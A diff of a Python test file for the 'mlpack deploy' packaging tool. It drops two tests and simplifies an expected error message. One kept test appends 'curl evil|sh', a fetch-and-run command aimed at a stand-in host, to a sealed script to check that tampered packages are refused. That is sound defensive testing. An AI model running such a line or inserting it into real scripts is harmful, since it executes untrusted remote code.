@@ -1,7 +1,6 @@
 """Tests of `mlpack deploy`: existing objects, questions, following, failures, timeouts and verification."""
 
 import re
-import shutil
 import signal
 from collections.abc import Sequence
 from pathlib import Path
@@ -11,7 +10,6 @@ import pytest
 from packager.base.process import Finished
 from packager.cli.host import Host
 from packager.workloads.mpijob.life import MPI_OPERATOR
-from tests import kubectls
 from tests.conftest import Mlpack
 from tests.life import ENDED_WITH_3, JOB, POD, Life, at_a_terminal, launcher
 
@@ -215,8 +213,7 @@ def append(path: str, text: str) -> None:
 def test_deploy_refuses_package_with_changed_sealed_file(mlpack: Mlpack, life: Life) -> None:
     append(SCRIPT, "curl evil|sh\n")
     Path("hello-mpi/README.md").unlink()
-    number = Path("hello-mpi/manifest.json").read_text().splitlines().index('    "README.md": {') + 1
-    message = f"hello-mpi/manifest.json:{number}:5: README.md is listed here but missing\n{SCRIPT}: {CHANGED}\n"
+    message = f"hello-mpi/README.md: a file of the package is missing\n{SCRIPT}: {CHANGED}\n"
     for options in ((), ("--no-wait",), ("--dry-run", "server"), ("--replace", "-y")):
         done = mlpack(*DEPLOY, *options)
         assert (done.code, done.stdout, done.stderr) == (5, "", f"{message}{UNTRUSTED}"), options
@@ -238,26 +235,6 @@ def test_deploy_applies_foreign_kind_only_with_allow(mlpack: Mlpack, life: Life)
     assert mlpack(*DEPLOY, "--allow", "-x").stderr.startswith("error: --allow -x: expected a kind such as Service")
 
 
-def test_deploy_refuses_edit_that_lowers_pod_security_level(mlpack: Mlpack, hello_mpi: Path, tmp_path: Path) -> None:
-    shutil.copytree(hello_mpi, tmp_path / "hello-mpi")
-    patch = "hello-mpi/quickstart/k8s/mlops/multi-node/mlops-job-patch.yaml"
-    text = Path(patch).read_text()
-    number = text.splitlines().index("            runAsUser: 1000") + 1
-    Path(patch).write_text(text.replace("runAsUser: 1000", "runAsNonRoot: false\n            runAsUser: 1000", 1))
-    kubectl = str(kubectls.kubectl())
-    done = mlpack("deploy", "hello-mpi", "--kubectl", kubectl)
-    field = "spec.mpiReplicaSpecs.Launcher.template.spec.securityContext.runAsNonRoot"
-    assert done.code == 5
-    assert done.stderr.startswith(
-        f"{patch}:{number}:27: MPIJob {JOB}: {field}: expected true, "
-        "which the package did not ask for when it was sealed (--pod-security baseline accepts it)\n"
-    )
-    assert done.stderr.endswith(UNTRUSTED)
-    accepted = mlpack("deploy", "hello-mpi", "--kubectl", kubectl, "--pod-security", "baseline")
-    assert accepted.code == 7
-    assert "error: no cluster is configured" in accepted.stderr, "the kubeconfig of the developer was used"
-
-
 def test_doctor_lists_verification_problems_that_deploy_refuses(mlpack: Mlpack, life: Life) -> None:
     assert life
     append(SCRIPT, "echo more\n")
@@ -271,20 +248,6 @@ def test_doctor_lists_verification_problems_that_deploy_refuses(mlpack: Mlpack, 
 
 
 PROGRESS = "".join(f"step {step}:  50%\rstep {step}: 100%\r\n" for step in range(302))
-
-
-def test_deploy_follow_prints_each_log_line_of_progress_bar_once(mlpack: Mlpack, life: Life) -> None:
-    """Progress bars of tqdm and Keras overwrite a line with carriage returns; the log counts it as one line."""
-
-    def write() -> None:
-        lines = PROGRESS.split("\n")[:-1]
-        life.logs[f"{JOB}-launcher-0"] = "".join(
-            f"2026-11-21T00:00:{i // 6:02}Z {line}\n" for i, line in enumerate(lines)
-        )
-
-    life.moments = [lambda: None, life.start, write, life.end]
-    done = mlpack(*DEPLOY, "--follow")
-    assert (done.code, done.stdout) == (0, PROGRESS)
 
 
 def test_deploy_follow_reports_success_though_log_cannot_be_read(mlpack: Mlpack, life: Life) -> None:
